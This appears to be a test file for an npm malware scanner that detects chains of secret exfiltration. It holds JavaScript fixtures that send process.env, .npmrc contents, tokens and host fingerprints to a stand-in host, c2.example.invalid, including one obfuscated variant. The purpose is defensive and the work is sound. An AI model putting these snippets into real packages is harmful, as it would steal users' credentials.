"""Behaviour chains: source -> (transform) -> sink in one file, plain and obfuscated (issue 13 A)."""

from __future__ import annotations

import pytest

from chainwatch.analysis.chains import find_chains
from chainwatch.analysis.engine import Engine
from chainwatch.analysis.rules import load_rules
from chainwatch.model import Level, PackageFile, PackageRef, Severity
from chainwatch.scan import Loaded, Scanner, scan_snippet_files
from tests.helpers import manifest

ENGINE = Engine(load_rules())
SCANNER = Scanner(None, workers=1)

ENV_EXFIL = """const https = require('https');
const data = JSON.stringify(process.env);
const body = Buffer.from(data).toString('base64');
function send(payload) {
  const req = https.request({ hostname: 'c2.example.invalid', method: 'POST' });
  req.write(payload);
  req.end();
}
send(body);
"""
# the same behaviour with the names hidden: computed access, concatenation, a string table
ENV_EXFIL_OBFUSCATED = """const _t = ['aHR0cHM=', 'ZW52'];
const h = require(Buffer.from(_t[0], 'base64').toString());
const data = JSON['strin' + 'gify'](process[atob(_t[1])]);
const body = Buffer.from(data).toString('base64');
function send(payload) {
  const req = h['req' + 'uest']({ hostname: 'c2.example.invalid', method: 'POST' });
  req['wr' + 'ite'](payload);
  req.end();
}
send(body);
"""
NPMRC_EXEC = """const fs = require('fs'), os = require('os');
const { exec } = require('child_process');
fs.readFile(os.homedir() + '/.npmrc', 'utf8', (err, text) => {
  exec('curl -d ' + text + ' https://c2.example.invalid');
});
"""
HOST_DNS = """const os = require('os');
const dns = require('dns');
const id = os.userInfo().username + '.' + os.hostname();
dns.lookup(id + '.c2.example.invalid', () => {});
"""


def rules(src: str) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for f in ENGINE.scan_file(PackageFile("index.js", src.encode())):
        out.setdefault(f.rule, []).append(f.message)
    return out


@pytest.mark.parametrize(("src", "rule"), [
    (ENV_EXFIL, "CW-CHAIN-EXFIL"), (ENV_EXFIL_OBFUSCATED, "CW-CHAIN-EXFIL"),
    (NPMRC_EXEC, "CW-CHAIN-EXFIL"), (HOST_DNS, "CW-CHAIN-FINGERPRINT"),
])
def test_full_chains_are_found(src: str, rule: str) -> None:
    assert rule in rules(src)


def test_the_evidence_lists_source_transform_and_sink_lines() -> None:
    (chain,) = find_chains(ENV_EXFIL.encode())
    assert (chain.source.line, chain.transform, chain.sink_line) == (2, ("stringify", 2), 6)
    message = rules(ENV_EXFIL)["CW-CHAIN-EXFIL"][0]
    assert message.count("(line 2)") == 2 and "(line 6)" in message


def test_plain_and_obfuscated_give_the_same_chain() -> None:
    plain, obfuscated = rules(ENV_EXFIL), rules(ENV_EXFIL_OBFUSCATED)
    assert "CW-CHAIN-EXFIL" in plain and "CW-CHAIN-EXFIL" in obfuscated
    assert "[after normalisation]" in obfuscated["CW-CHAIN-EXFIL"][0]


@pytest.mark.parametrize("src", [
    # parts alone: a source without a sink, a sink without a source
    "const data = JSON.stringify(process.env);\nconsole.log(data.length);\n",
    "const https = require('https');\nhttps.get('https://api.example.invalid/v1');\n",
    # the same names in different functions are different variables
    "const https = require('https');\nfunction a() { const d = process.env.NPM_TOKEN; "
    "return !!d; }\nfunction b() { let d = 'ok'; https.get('https://x.example.invalid/' + d); }\n",
    # a child process given the environment is not a leak
    "const cp = require('child_process');\ncp.spawn('node', ['x.js'], "
    "{ env: Object.assign({}, process.env, { A: '1' }) });\n",
    # a command looked up in the environment (cross-spawn's Windows shim, as bundled in
    # dotenv 18's CLI: it made dotenv malicious standalone)
    "const k = require('child_process');\nfunction D(o, n) { return o[n]; }\n"
    "function z(e, r, t) { let o = t.env || process.env;\n"
    "  return k.spawn(D(o, 'COMSPEC') || 'cmd.exe', ['/d', '/c', e], t); }\n",
])
def test_parts_alone_are_no_chain(src: str) -> None:
    assert not any(r.startswith("CW-CHAIN-") for r in rules(src))


def test_a_chain_makes_the_verdict_malicious_and_its_parts_do_not() -> None:
    def verdict(code: str) -> Level:
        files = {"package.json": manifest(version="1.0.1"), "index.js": code}
        v = SCANNER.analyze(Loaded(PackageRef("left-padder", "1.0.1"),
                                   scan_snippet_files(files)), None)
        return v.level

    assert verdict(HOST_DNS) is Level.MALICIOUS
    assert verdict(ENV_EXFIL_OBFUSCATED) is Level.MALICIOUS
    assert verdict("const os = require('os');\nmodule.exports = () => os.hostname();\n") \
        is Level.BENIGN


def test_chain_rules_are_strong() -> None:
    by_id = {r.id: r for r in ENGINE.rules}
    assert by_id["CW-CHAIN-EXFIL"].severity is Severity.CRITICAL
    assert by_id["CW-CHAIN-FINGERPRINT"].severity is Severity.HIGH


def test_a_host_fact_sent_with_https_get_is_a_chain() -> None:
    # the old 'requires' prefilter knew no sink spelt `get`: the chain was found, then dropped
    src = ("const o = require('os'); const h = require('https');\n"
           "const u = 'https://t.example.invalid/p?h=' + o.hostname();\n"
           "h.get(u, () => {});\n")
    rules = {f.rule for f in ENGINE.scan_file(PackageFile("lib/ping.js", src.encode()))}
    assert "CW-CHAIN-FINGERPRINT" in rules


def test_the_data_flow_runs_only_where_a_sink_can_be_named(
        monkeypatch: pytest.MonkeyPatch) -> None:
    from chainwatch.analysis import chains
    runs: list[bytes] = []
    real = chains._Analysis

    def counting(data: bytes, lang: str) -> chains._Analysis:
        runs.append(data)
        return real(data, lang)

    monkeypatch.setattr(chains, "_Analysis", counting)
    chains._find_chains.cache_clear()
    no_sink = b"const t = process.env.NPM_TOKEN;\nmodule.exports = () => t && resolve(t);\n"
    assert not {f.rule for f in ENGINE.scan_file(PackageFile("a.js", no_sink))
                if f.rule.startswith("CW-CHAIN")}
    assert runs == []
    # the three chain rules read one analysis of a file, not one each
    findings = ENGINE.scan_file(PackageFile("b.js", ENV_EXFIL.encode()))
    assert "CW-CHAIN-EXFIL" in {f.rule for f in findings}
    assert len(runs) == 1


def test_scopes_come_from_the_nesting_of_functions() -> None:
    # the same name in a sibling function is not the tainted one; a nested function sees it
    src = b"""const https = require('https');
function a() { const v = process.env.NPM_TOKEN; function inner() { https.get('x' + v); } }
function b() { const v = 'public'; https.get('https://x.example.invalid/' + v); }
"""
    found = find_chains(src)
    assert [c.sink_line for c in found] == [2]


# -- top-1000 false positives (h/top1000): the real constructs, excerpted and reduced ------------
# @smithy/credential-provider-imds: the container credential provider sends its auth token to
# the metadata endpoint it authenticates against, as the request's Authorization header
CREDENTIAL_IN_ITS_OWN_REQUEST = """const http = require("node:http");
function httpRequest(options) {
  return new Promise((resolve) => { const req = http.request({ method: "GET", ...options }); req.end(); });
}
const requestFromEcsImds = async (timeout, options) => {
  if (process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN) {
    options.headers = { ...options.headers, Authorization: process.env.AWS_CONTAINER_AUTHORIZATION_TOKEN };
  }
  return httpRequest({ ...options, timeout });
};
"""
HEADER_ASSIGNED = """const https = require('https');
const headers = {};
headers['Authorization'] = 'Bearer ' + process.env.GITHUB_TOKEN;
https.get({ host: 'api.example.invalid', headers });
"""
# @smithy/core: the SDK's endpoint setting is where its request goes, not a secret
SDK_ENDPOINT_SETTING = """const { request } = require('node:http');
const endpoint = process.env.AWS_EC2_METADATA_SERVICE_ENDPOINT;
const req = request({ host: endpoint, path: '/latest/meta-data/placement/region' });
req.end();
"""
# pnpm's install.js: npm's own lower-case lifecycle variables pick the command to run
NPM_LIFECYCLE_SETTING = """const { spawnSync } = require('child_process');
const npmCli = process.env.npm_execpath;
spawnSync(process.execPath, [npmCli, 'config', 'get', 'registry'], { stdio: 'inherit' });
"""


# @smithy/credential-provider-imds (normalised view): the container credentials URI is the path
# the provider requests, returned by a helper: a place, whatever word comes before it
CREDENTIALS_URI_SETTING = """const http = require('http');
const getCmdsUri = () => ({ hostname: '169.254.170.2',
  path: process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI });
const options = getCmdsUri();
http.request({ ...options, timeout: 1000 }).end();
"""


@pytest.mark.parametrize("src", [CREDENTIAL_IN_ITS_OWN_REQUEST, HEADER_ASSIGNED,
                                 SDK_ENDPOINT_SETTING, NPM_LIFECYCLE_SETTING,
                                 CREDENTIALS_URI_SETTING])
def test_a_credential_sent_as_its_own_requests_auth_and_settings_are_no_chain(src: str) -> None:
    assert find_chains(src.encode()) == []


# the malicious forms of the same shapes stay chains
@pytest.mark.parametrize(("src", "source"), [
    # the whole environment (or a serialised value) in an Authorization header is no credential
    ("const https = require('https');\nconst all = JSON.stringify(process.env);\n"
     "https.request({ hostname: 'c2.example.invalid', headers: { Authorization: all } }).end();",
     "process.env"),
    # a token in the Authorization header and in the query string: the query string leaks it
    ("const t = process.env.NPM_TOKEN;\nfetch('https://c2.example.invalid/?t=' + t, "
     "{ headers: { Authorization: 'Bearer ' + t } });", "process.env.NPM_TOKEN"),
    # npm's lower-case variables still count when the key names a secret
    ("const { exec } = require('child_process');\n"
     "exec('curl -d ' + process.env.npm_config__authToken + ' https://c2.example.invalid');",
     "process.env.npm_config__authToken"),
    # a service's own variable with no secret word is still a secret unless it names a place
    ("fetch('https://c2.example.invalid/?k=' + process.env.GITHUB_PAT);", "process.env.GITHUB_PAT"),
    # a webhook URL is the credential itself, URL suffix or not
    ("fetch('https://c2.example.invalid/', { method: 'POST', body: process.env.SLACK_WEBHOOK_URL });",
     "process.env.SLACK_WEBHOOK_URL"),
    # the same helper returning the token instead of the URI: still a secret where it goes
    (CREDENTIALS_URI_SETTING.replace("RELATIVE_URI", "TOKEN"),
     "process.env.AWS_CONTAINER_CREDENTIALS_TOKEN"),
    ("const https = require('https');\n"
     "https.get('https://c2.example.invalid/?k=' + process.env.AWS_SECRET_ACCESS_KEY);",
     "process.env.AWS_SECRET_ACCESS_KEY"),
])
def test_secrets_leaving_outside_the_auth_header_are_still_chains(src: str, source: str) -> None:
    found = find_chains(src.encode())
    assert found and found[0].source.what == source


def test_a_function_is_not_the_data_its_body_reads() -> None:
    """@smithy/credential-provider-imds: `const f = async () => { if (process.env.X) … }` made
    `f`, and every value computed by calling it, a secret; the chain ran through the SDK."""
    src = """const http = require('http');
const readToken = async () => { if (process.env.SERVICE_TOKEN) { return 'set'; } return ''; };
const retry = (fn) => fn();
const result = retry(readToken);
http.request({ host: 'api.example.invalid', path: '/' + result }).end();
"""
    assert find_chains(src.encode()) == []
    # a function is what it returns: a getter of the secret is still a source where it is called
    getter = src.replace("if (process.env.SERVICE_TOKEN) { return 'set'; } return '';",
                         "return process.env.SERVICE_TOKEN;")
    assert getter != src
    found = find_chains(getter.encode())
    assert found and found[0].source.what == "process.env.SERVICE_TOKEN"
    arrow = ("const grab = () => process.env.NPM_TOKEN;\n"
             "fetch('https://c2.example.invalid/?t=' + grab());\n")
    assert find_chains(arrow.encode())
